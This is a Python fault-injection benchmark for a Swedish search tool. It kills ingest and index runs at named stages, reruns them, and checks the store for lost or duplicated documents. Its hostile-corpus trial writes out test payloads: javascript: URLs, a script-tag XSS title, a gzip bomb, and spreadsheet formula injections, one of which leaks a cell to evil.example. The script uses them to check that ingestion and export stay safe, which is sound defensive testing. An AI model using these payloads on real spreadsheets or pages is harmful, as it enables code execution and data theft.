"""Fault table: kill -9 at named stages, rerun, and check that nothing was lost or doubled.

Each trial runs a real `regionsok` command in a child process that SIGKILLs itself at a
named stage (``REGIONSOK_FAULT_AT``, see :mod:`regionsok.faults`), then reruns it without
the fault and checks the data directory:

- ``PRAGMA integrity_check`` is ``ok``, and the index generation ``CURRENT`` names loads;
- ``documents_lost``: expected documents missing from the store, live documents left
  unindexed, chunks without a vector;
- ``duplicates``: a URL stored twice, a document version too many, a chunk, vector or keyword row
  twice, a vector twice or a vector no chunk owns.

Trials: `ingest --jsonl` killed after 1/4, 1/2 and 3/4 of its records; `index` killed at
load, embed (after its first committed batch), write (generation written, not swapped) and
swap (swapped, chunk rows not committed); `nightly` against the demo site killed mid-ingest
and mid-index (compared with an unkilled run); and a hostile corpus (javascript: URLs,
formula titles, UTF-16, gzip, a gzip bomb, a huge page, a broken PDF) ingested once.
Prints one JSON object: the table and its totals. Uses the default model
(REGIONSOK_MODEL_DIR, built by `make setup`). Usage: ``.venv/bin/python bench/faults.py``.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import numpy as np

import regionsok
from regionsok.faults import FAULT_ENV

REPO = Path(regionsok.__file__).resolve().parents[1]
TOWNS = ["Linköping", "Norrköping", "Motala", "Jönköping", "Växjö", "Kalmar", "Luleå", "Umeå", "Visby", "Falun",
         "Gävle", "Karlstad", "Örebro", "Västerås", "Sundsvall", "Östersund", "Halmstad", "Kristianstad"]
TOPICS = ["missbruk och beroende", "psykisk ohälsa bland unga", "våld i nära relationer", "äldres hälsa",
          "spelberoende", "hemlöshet", "barn i familjer med missbruk", "suicidprevention"]


@dataclass(frozen=True, slots=True)
class Trial:
    """One row of the fault table."""

    trial: str
    stage: str
    survived: bool
    documents_lost: int
    duplicates: int
    seconds: float
    detail: str = ""


# -- running `regionsok` ----------------------------------------------------------------------


def _env(data_dir: Path, fault: str | None = None) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in (FAULT_ENV, "REGIONSOK_DATA_DIR")}
    env.update({"PYTHONPATH": str(REPO), "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1",
                "REGIONSOK_DATA_DIR": str(data_dir)})
    if fault:
        env[FAULT_ENV] = fault
    return env


def regionsok_cli(data_dir: Path, *args: str, fault: str | None = None,
                  timeout: float = 1800) -> subprocess.CompletedProcess[str]:
    """`regionsok --data-dir DIR ARGS...` in a child process (killing itself at ``fault``)."""
    command = [sys.executable, "-m", "regionsok", "--data-dir", str(data_dir), *args]
    return subprocess.run(command, env=_env(data_dir, fault), cwd=REPO, capture_output=True, text=True,
                          timeout=timeout)


def _tail(done: subprocess.CompletedProcess[str]) -> str:
    return (done.stdout + done.stderr).strip().splitlines()[-1][-200:] if (done.stdout + done.stderr).strip() else ""


# -- the checks -------------------------------------------------------------------------------


@contextmanager
def _db(data_dir: Path) -> Iterator[sqlite3.Connection]:
    conn = sqlite3.connect(data_dir / "regionsok.sqlite3", timeout=30)
    try:
        yield conn
    finally:
        conn.close()


def _one(conn: sqlite3.Connection, sql: str) -> int:
    return int(conn.execute(sql).fetchone()[0] or 0)


@dataclass(frozen=True, slots=True)
class Health:
    integrity_ok: bool
    index_loads: bool
    lost: int
    duplicates: int
    index_version: int | None
    notes: tuple[str, ...]


def store_urls(data_dir: Path) -> set[str]:
    with _db(data_dir) as conn:
        return {row[0] for row in conn.execute(
            "SELECT u.url FROM document_urls u JOIN documents d USING (doc_id) WHERE d.removed_at IS NULL")}


def check(data_dir: Path, expected_urls: set[str], *, indexed: bool) -> Health:
    """Integrity, lost documents and duplicates of one data directory (see the module docstring)."""
    from search.indexer import current_generation, load_generation
    from search.keyword import KeywordIndex

    notes: list[str] = []
    with _db(data_dir) as conn:
        integrity_ok = conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        missing = expected_urls - store_urls(data_dir)
        lost = len(missing)
        duplicates = (
            _one(conn, "SELECT count(*) - count(DISTINCT url) FROM documents WHERE removed_at IS NULL")
            + _one(conn, "SELECT count(*) - count(DISTINCT doc_id) FROM document_versions")  # one text each
            + _one(conn, "SELECT count(*) - count(DISTINCT doc_id || ':' || ordinal) FROM chunks")
        )
        if missing:
            notes.append(f"missing {sorted(missing)[:3]}")
        if indexed:
            unindexed = _one(conn, "SELECT count(*) FROM documents WHERE removed_at IS NULL "
                                   "AND indexed_sha256 IS NOT sha256")
            chunk_ids = np.fromiter((r[0] for r in conn.execute("SELECT vec_id FROM chunks")), dtype=np.int64)
            lost += unindexed
            if unindexed:
                notes.append(f"{unindexed} documents not indexed")
    index_loads, version = True, None
    if indexed:
        try:
            generation = current_generation(data_dir / "index")
            assert generation is not None, "no generation published"
            vectors = load_generation(generation).ids()
            version = generation.version
            without_vector = np.setdiff1d(chunk_ids, vectors).size
            orphan_vectors = np.setdiff1d(vectors, chunk_ids).size
            lost += without_vector
            duplicates += (vectors.size - np.unique(vectors).size) + orphan_vectors
            if without_vector or orphan_vectors:
                notes.append(f"{without_vector} chunks without vector, {orphan_vectors} orphan vectors")
            # The keyword index holds exactly the generation's vectors: no chunk missing, none twice.
            keyword = KeywordIndex.load(generation.path)
            assert keyword is not None, "the generation has no keyword index"
            rows = np.concatenate([s.vec_ids[live] for s, live in zip(keyword.segments, keyword.live, strict=True)])
            without_keyword = np.setdiff1d(vectors, rows).size
            lost += without_keyword
            duplicates += (rows.size - np.unique(rows).size) + np.setdiff1d(rows, vectors).size
            if without_keyword:
                notes.append(f"{without_keyword} chunks without keyword postings")
        except Exception as err:  # any failure to load is what this check reports
            index_loads = False
            notes.append(f"index does not load: {type(err).__name__}: {err}")
    return Health(integrity_ok, index_loads, lost, duplicates, version, tuple(notes))


def served_version(data_dir: Path) -> int | None:
    """The generation a server would load right now (None if none or unreadable)."""
    from search.indexer import current_generation, load_generation

    try:
        generation = current_generation(data_dir / "index")
        if generation is None:
            return None
        load_generation(generation)
        return generation.version
    except Exception:  # an unreadable index is reported as "not served"
        return None


# -- corpora ----------------------------------------------------------------------------------


def records(start: int, count: int) -> list[dict[str, str]]:
    """Distinct press releases of ~450 words (two to three chunks each)."""
    out = []
    for i in range(start, start + count):
        town, topic = TOWNS[i % len(TOWNS)], TOPICS[i % len(TOPICS)]
        paragraphs = [
            f"Nyhet {i}: {town} kommun och regionen tecknar en överenskommelse om {topic}.",
            *(f"Del {p} av överenskommelse {i}: {town} satsar på {TOPICS[(i + p) % len(TOPICS)]}, med "
              f"{p + i % 7} nya tjänster, uppföljning varje kvartal och ett brukarråd som följer arbetet "
              f"i {TOWNS[(i + p) % len(TOWNS)]} och länets övriga kommuner under {2020 + p % 5}." for p in range(14)),
        ]
        out.append({"url": f"https://www.example-region.se/nyheter/{i}", "title": f"Nyhet {i} från {town}",
                    "text": "\n\n".join(paragraphs)})
    return out


def write_jsonl(path: Path, rows: list[dict[str, str]]) -> Path:
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


# -- trials -----------------------------------------------------------------------------------


def _row(name: str, stage: str, started: float, killed: subprocess.CompletedProcess[str],
         rerun: subprocess.CompletedProcess[str], health: Health, extra_ok: bool = True,
         detail: str = "") -> Trial:
    was_killed = killed.returncode == -signal.SIGKILL
    survived = (was_killed and rerun.returncode == 0 and health.integrity_ok and health.index_loads
                and health.lost == 0 and health.duplicates == 0 and extra_ok)
    parts = [detail] if detail else []
    if not was_killed:
        parts.append(f"not killed at the stage (exit {killed.returncode}: {_tail(killed)})")
    if rerun.returncode != 0:
        parts.append(f"rerun exit {rerun.returncode}: {_tail(rerun)}")
    parts += health.notes
    return Trial(name, stage, survived, health.lost, health.duplicates, round(time.monotonic() - started, 1),
                 "; ".join(parts))


def ingest_trials(work: Path, total: int) -> list[Trial]:
    rows = records(0, total)
    source = write_jsonl(work / "ingest.jsonl", rows)
    expected = {r["url"] for r in rows}
    out = []
    for n, at in enumerate((total // 4, total // 2, 3 * total // 4), start=1):
        started = time.monotonic()
        data = work / f"ingest-{n}"
        killed = regionsok_cli(data, "ingest", "--jsonl", str(source), fault=f"ingest.page@{at}")
        with _db(data) as conn:
            kept = _one(conn, "SELECT count(*) FROM documents")
        rerun = regionsok_cli(data, "ingest", "--jsonl", str(source))
        health = check(data, expected, indexed=False)
        new_on_rerun = f"{total - kept} new" in rerun.stdout
        out.append(_row(f"ingest-{n}", f"ingest.page@{at}", started, killed, rerun, health, new_on_rerun,
                        f"{kept} of {total} stored when killed; rerun added the rest"
                        + ("" if new_on_rerun else f" (rerun said: {_tail(rerun)})")))
    return out


INDEX_STAGES = ("index.load", "index.embed", "index.write", "index.swap")


def index_trials(work: Path, base_docs: int, new_docs: int) -> list[Trial]:
    base = work / "index-base"
    rows = records(0, base_docs)
    for step in (regionsok_cli(base, "ingest", "--jsonl", str(write_jsonl(work / "base.jsonl", rows))),
                 regionsok_cli(base, "index")):
        if step.returncode != 0:
            raise SystemExit(f"setting up the index trials failed: {_tail(step)}")
    added = records(base_docs, new_docs)
    added_file = write_jsonl(work / "added.jsonl", added)
    expected = {r["url"] for r in rows + added}
    before = served_version(base)
    out = []
    for stage in INDEX_STAGES:
        started = time.monotonic()
        data = work / f"trial-{stage}"
        shutil.copytree(base, data)
        ingest = regionsok_cli(data, "ingest", "--jsonl", str(added_file))
        killed = regionsok_cli(data, "index", fault=stage)
        # While killed: a server still has a whole generation (the old one until the swap).
        serving = served_version(data)
        expected_serving = (before or 0) + 1 if stage == "index.swap" else before
        rerun = regionsok_cli(data, "index", "--json")
        health = check(data, expected, indexed=True)
        try:
            report = json.loads(rerun.stdout.strip().splitlines()[-1])
        except (ValueError, IndexError):
            report = {}
        detail = (f"served v{serving} while killed; rerun embedded {report.get('chunks_embedded')}, "
                  f"reused {report.get('chunks_reused')}, published v{health.index_version}")
        ok = ingest.returncode == 0 and serving == expected_serving
        out.append(_row(f"index-{stage.split('.')[1]}", stage, started, killed, rerun, health, ok, detail))
    return out


NIGHTLY_FAULTS = ("ingest.page@6", "index.embed", "index.swap")


def nightly_trials(work: Path) -> list[Trial]:
    from crawler.demosite import DemoSite
    from crawler.demosite.sources import write_demo_sources

    out = []
    with DemoSite() as site:
        sources = write_demo_sources(work / "demo-sources.toml", site.url)
        reference = work / "nightly-reference"
        first = regionsok_cli(reference, "nightly", "--sources", str(sources))
        if first.returncode != 0:
            raise SystemExit(f"the reference nightly run failed: {_tail(first)}")
        expected = store_urls(reference)
        for fault in NIGHTLY_FAULTS:
            started = time.monotonic()
            data = work / f"nightly-{fault}"
            killed = regionsok_cli(data, "nightly", "--sources", str(sources), fault=fault)
            rerun = regionsok_cli(data, "nightly", "--sources", str(sources))
            health = check(data, expected, indexed=True)
            out.append(_row("nightly", fault, started, killed, rerun, health,
                            detail=f"{len(expected)} documents expected (an unkilled run's)"))
    return out


BROKEN_PDF = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
              b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
              b"3 0 obj << /Type /Page /Contents 4 0 R >> endobj\n4 0 obj << /Length 9999 >> stream\nBT /F1")
SAFE_TEXT = ("Regionen och länets kommuner har tecknat en överenskommelse om stöd till unga med psykisk "
             "ohälsa, med fler kuratorer i skolan och kortare väntetider till första bedömning.")


def hostile_trial(work: Path, max_page_bytes: int) -> Trial:
    """Hostile input ingested once: each file stored or refused as it should be, exports inert."""
    started = time.monotonic()
    inbox = work / "hostile"
    inbox.mkdir()
    page = f"<html><head><title>Stöd till unga</title></head><body><main><p>{SAFE_TEXT}</p></main></body></html>"
    (inbox / "utf16.html").write_bytes(("\ufeff" + page).encode("utf-16-le"))
    (inbox / "sida.html.gz").write_bytes(gzip.compress(page.replace("unga", "barn").encode()))
    (inbox / "bomb.html.gz").write_bytes(gzip.compress(b"<html><body>" + b"a" * (max_page_bytes * 3)))
    (inbox / "huge.html").write_bytes(b"<html><body><p>" + b"Utfyllnad. " * (max_page_bytes // 10) + b"</p>")
    (inbox / "broken.pdf").write_bytes(BROKEN_PDF)
    hostile = [
        {"url": "javascript:alert(1)", "title": "Klicka", "text": SAFE_TEXT},
        {"url": " JavaScript:alert(document.cookie)", "title": "Klicka", "text": SAFE_TEXT + " Två."},
        {"url": "https://www.example-region.se/formel-1", "title": "=cmd|' /C calc'!A0", "text": SAFE_TEXT + " Tre."},
        {"url": "https://www.example-region.se/formel-2",
         "title": '=HYPERLINK("http://evil.example/?x="&A1,"klicka")', "text": SAFE_TEXT + " Fyra."},
        {"url": "https://www.example-region.se/xss", "title": "<script>alert(1)</script>",
         "text": SAFE_TEXT + " Fem."},
    ]
    records_file = write_jsonl(work / "hostile.jsonl", hostile)
    data = work / "hostile-data"
    ingested = regionsok_cli(data, "ingest", str(inbox), "--jsonl", str(records_file), "--json")
    stored_expected = {(inbox / "utf16.html").resolve().as_uri(), (inbox / "sida.html.gz").resolve().as_uri(),
                       *(r["url"] for r in hostile[2:])}
    refused_expected = {"javascript:alert(1)", " JavaScript:alert(document.cookie)", "bomb.html.gz", "huge.html",
                        "broken.pdf"}
    health = check(data, stored_expected, indexed=False)
    try:
        report = json.loads(ingested.stdout)
    except ValueError:
        report = {"failed": []}
    refused = {Path(unquote(f["input"].removeprefix("file://"))).name if f["input"].startswith("file://")
               else f["input"] for f in report.get("failed", [])}
    exported = regionsok_cli(data, "export", "--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(exported.stdout.lstrip("\ufeff"))) for cell in row]
    formulas = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    with _db(data) as conn:
        bad_urls = _one(conn, "SELECT count(*) FROM document_urls WHERE lower(ltrim(url)) NOT LIKE 'http%' "
                              "AND url NOT LIKE 'file://%'")
    missing_refusals = refused_expected - refused
    survived = (health.integrity_ok and health.lost == 0 and health.duplicates == 0 and not missing_refusals
                and not formulas and bad_urls == 0 and exported.returncode == 0)
    detail = (f"{len(refused & refused_expected)} of {len(refused_expected)} refused with a reason; "
              f"{len(formulas)} formula cells in the CSV export; {bad_urls} non-web URLs stored")
    if missing_refusals:
        detail += f"; not refused: {sorted(missing_refusals)}"
    return Trial("hostile-corpus", "ingest", survived, health.lost, health.duplicates,
                 round(time.monotonic() - started, 1), "; ".join([detail, *health.notes]))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--ingest-records", type=int, default=300, help="records in each ingest trial")
    parser.add_argument("--base-documents", type=int, default=12, help="documents indexed before the index trials")
    parser.add_argument("--new-documents", type=int, default=30, help="documents each index trial adds")
    parser.add_argument("--skip", action="append", default=[], choices=["ingest", "index", "nightly", "hostile"],
                        help="leave out a group of trials (repeatable)")
    args = parser.parse_args()
    from regionsok.settings import Settings

    trials: list[Trial] = []
    groups: dict[str, Callable[[Path], list[Trial]]] = {
        "ingest": lambda w: ingest_trials(w, args.ingest_records),
        "index": lambda w: index_trials(w, args.base_documents, args.new_documents),
        "nightly": nightly_trials,
        "hostile": lambda w: [hostile_trial(w, Settings().max_page_bytes)],
    }
    started = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="regionsok-faults-") as tmp:
        for name, run in groups.items():
            if name not in args.skip:
                trials += run(Path(tmp))
    rows: list[dict[str, Any]] = [asdict(t) for t in trials]
    print(json.dumps({
        "benchmark": "faults",
        "trials": rows,
        "totals": {
            "trials": len(trials),
            "kills": sum(1 for t in trials if t.trial != "hostile-corpus"),
            "survived": sum(t.survived for t in trials),
            "documents_lost": sum(t.documents_lost for t in trials),
            "duplicates": sum(t.duplicates for t in trials),
            "seconds": round(time.monotonic() - started, 1),
        },
    }, indent=2, ensure_ascii=False))


if __name__ == "__main__":
    main()
